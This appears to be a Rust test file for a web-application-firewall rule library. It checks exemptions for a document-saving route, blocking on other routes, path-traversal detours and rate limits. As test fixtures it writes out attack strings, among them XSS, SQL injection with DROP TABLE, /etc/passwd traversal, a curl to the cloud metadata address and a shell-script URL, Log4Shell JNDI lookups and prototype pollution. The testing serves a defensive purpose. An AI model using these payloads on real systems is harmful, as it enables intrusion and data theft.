//! Saving documents that look like attacks, and attacks on the routes that save them.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;

use waf_rules::{Decision, DecisionAction, Exemption, Firewall, GROUPS, Part, Request, Settings};

/// HTML, code, SQL, URLs with addresses, paths: what people write about software, larger than a load balancer lets WAF see.
fn document() -> String {
    let text = r#"
# Incident report
<script>alert("hello")</script> and <img src=x onerror=alert(1)> came in through the form.

    SELECT * FROM users WHERE name = '' OR 1=1; DROP TABLE users;
    cat ../../../../etc/passwd
    curl http://169.254.169.254/latest/meta-data/ http://192.0.2.7/shell.sh
    (java.lang.Runtime).getRuntime().exec("whoami")
    ${jndi:ldap://example.com/a}
    {"then": "$1:__proto__:then", "status": "resolved_model"}
    WAITFOR DELAY '0:0:10'; SELECT pg_sleep(10)
"#;
    format!("{text}{}", "Lorem ipsum. ".repeat(160_000))
}

fn body_rules() -> Vec<String> {
    GROUPS
        .iter()
        .flat_map(|group| group.rules)
        .filter(|rule| rule.part == Part::Body)
        .map(|rule| rule.name.to_owned())
        .collect()
}

fn firewall() -> Firewall {
    Firewall::new(&Settings {
        rate_limit: 2_000,
        exemptions: vec![
            Exemption {
                reason: "documents hold anything".to_owned(),
                rules: body_rules(),
                methods: vec!["POST".to_owned(), "PUT".to_owned()],
                paths: vec!["/api/documents".to_owned(), "/api/documents/*".to_owned(), "/rpc".to_owned()],
            },
            Exemption {
                reason: "programs send no user agent".to_owned(),
                rules: vec!["NoUserAgent_HEADER".to_owned()],
                methods: Vec::new(),
                paths: vec!["/rpc".to_owned()],
            },
        ],
    })
    .unwrap()
}

fn save() -> Request {
    Request {
        method: "PUT".to_owned(),
        host: "example.com".to_owned(),
        path: "/api/documents/42".to_owned(),
        headers: BTreeMap::from([("User-Agent".to_owned(), "Mozilla/5.0".to_owned())]),
        body: document(),
        source_ip: "192.0.2.1".to_owned(),
        requests_from_source: 1,
        ..Request::default()
    }
}

fn blocked_by(decision: &Decision) -> Option<&str> {
    (decision.action == DecisionAction::Block)
        .then(|| decision.managed_rule.as_deref().or(decision.rule.as_deref()).unwrap_or_default())
}

#[test]
fn a_document_with_everything_in_it_is_saved() {
    let decision = firewall().evaluate(&save());
    assert_eq!(blocked_by(&decision), None);
    // Every rule about bodies saw it: otherwise the document proves nothing about the rule.
    for (group, rule) in GROUPS.iter().flat_map(|group| group.rules.iter().map(move |rule| (group, rule))) {
        assert_eq!(decision.labels.contains(&group.label(rule)), rule.part == Part::Body, "{}", rule.name);
    }
}

#[test]
fn the_same_body_is_blocked_on_every_other_route() {
    let others = ["/api/login", "/api/documents-export", "/", "/rpc/x", "/API/documents/42"];
    for path in others {
        let decision = firewall().evaluate(&Request { path: path.to_owned(), ..save() });
        assert_eq!(blocked_by(&decision), Some("not-exempt-1"), "{path}");
    }
    let decision = firewall().evaluate(&Request { method: "DELETE".to_owned(), ..save() });
    assert_eq!(blocked_by(&decision), Some("not-exempt-1"));
}

#[test]
fn a_detour_through_the_exempt_path_does_not_help() {
    for path in ["/api/documents/../login", "/api/documents/%2e%2e/login", "//api//documents/..//login"] {
        let decision = firewall().evaluate(&Request { path: path.to_owned(), ..save() });
        assert!(blocked_by(&decision).is_some(), "{path}");
    }
}

#[test]
fn each_body_rule_blocks_alone_outside_the_exemption() {
    let attacks = [
        "<script>alert(1)</script>",
        "x' OR '1'='1",
        "SELECT pg_sleep(10)",
        "../../etc",
        "http://192.0.2.7/shell.sh",
        "http://169.254.169.254/",
        "java.lang.Runtime",
        "${jndi:ldap://example.com/a}",
        "$1:__proto__:then",
    ];
    for body in attacks {
        let login = Request { path: "/api/login".to_owned(), body: body.to_owned(), ..save() };
        assert!(blocked_by(&firewall().evaluate(&login)).is_some(), "{body}");
        assert_eq!(
            blocked_by(&firewall().evaluate(&Request { body: body.to_owned(), ..save() })),
            None,
            "{body}"
        );
    }
    let harmless = Request { path: "/api/login".to_owned(), body: "name=a".to_owned(), ..save() };
    assert_eq!(blocked_by(&firewall().evaluate(&harmless)), None);
}

#[test]
fn an_attack_on_the_route_that_saves_documents_is_blocked() {
    let header = |name: &str, value: &str| {
        let mut request = save();
        request.headers.insert(name.to_owned(), value.to_owned());
        request
    };
    let query = |text: &str| Request { query: text.to_owned(), ..save() };
    let path = |text: &str| Request { path: text.to_owned(), ..save() };
    let attacks = [
        (query("id=1%27%20OR%20%271%27=%271"), "SQLi_QUERYARGUMENTS"),
        (query("id=1+UNION+SELECT+password"), "SQLi_QUERYARGUMENTS"),
        (query("q=%3Cscript%3Ealert(1)%3C/script%3E"), "CrossSiteScripting_QUERYARGUMENTS"),
        (query("file=../../etc/passwd"), "GenericLFI_QUERYARGUMENTS"),
        (query("url=http://169.254.169.254/"), "EC2MetaDataSSRF_QUERYARGUMENTS"),
        (query("a=${jndi:ldap://x}"), "Log4JRCE_QUERYSTRING"),
        (query(&"a".repeat(2_049)), "SizeRestrictions_QUERYSTRING"),
        (path("/api/documents/<script>"), "CrossSiteScripting_URIPATH"),
        (path("/api/documents/../../secret"), "GenericLFI_URIPATH"),
        (path("/api/documents/server.log"), "RestrictedExtensions_URIPATH"),
        (path("/api/documents/1' OR '1'='1"), "SQLi_URIPATH"),
        (header("Cookie", "session=' OR 1=1"), "SQLi_COOKIE"),
        (header("Cookie", "a=<script>alert(1)</script>"), "CrossSiteScripting_COOKIE"),
        (header("X-Api-Version", "${jndi:ldap://x}"), "Log4JRCE_HEADER"),
        (header("User-Agent", "Nmap Scripting Engine"), "UserAgent_BadBots_HEADER"),
        (header("Host", "localhost"), "Host_localhost_HEADER"),
    ];
    for (request, rule) in attacks {
        assert_eq!(blocked_by(&firewall().evaluate(&request)), Some(rule));
    }
}

#[test]
fn programs_without_user_agent_reach_only_their_route() {
    let request = |path: &str| Request {
        method: "POST".to_owned(),
        path: path.to_owned(),
        body: "{}".to_owned(),
        ..Request::default()
    };
    assert_eq!(blocked_by(&firewall().evaluate(&request("/rpc"))), None);
    let elsewhere = firewall().evaluate(&request("/api/documents"));
    assert_eq!(blocked_by(&elsewhere), Some("not-exempt-2"));
}

#[test]
fn a_flood_is_blocked_before_anything_else() {
    let at = |requests_from_source: u32| firewall().evaluate(&Request { requests_from_source, ..save() });
    assert_eq!(blocked_by(&at(2_000)), None);
    let flood = at(2_001);
    assert_eq!(blocked_by(&flood), Some("rate-limit"));
    assert!(flood.labels.is_empty());
}

#[test]
fn only_the_first_8_kib_of_a_body_are_inspected() {
    let late = format!("{}<script>", "a".repeat(8_192));
    let decision = firewall().evaluate(&Request { body: late, ..save() });
    assert_eq!(
        decision.labels.into_iter().collect::<Vec<_>>(),
        ["awswaf:managed:aws:core-rule-set:SizeRestrictions_Body", "exemption:1"]
    );
}

#[test]
fn requests_are_read_from_json_without_surprises() {
    let request: Request =
        serde_json::from_str(r#"{ "method": "GET", "path": "/", "headers": { "HOST": "a" } }"#).unwrap();
    assert_eq!(request.header("host"), Some("a"));
    assert!(serde_json::from_str::<Request>(r#"{ "method": "GET", "path": "/", "boddy": "" }"#).is_err());
}
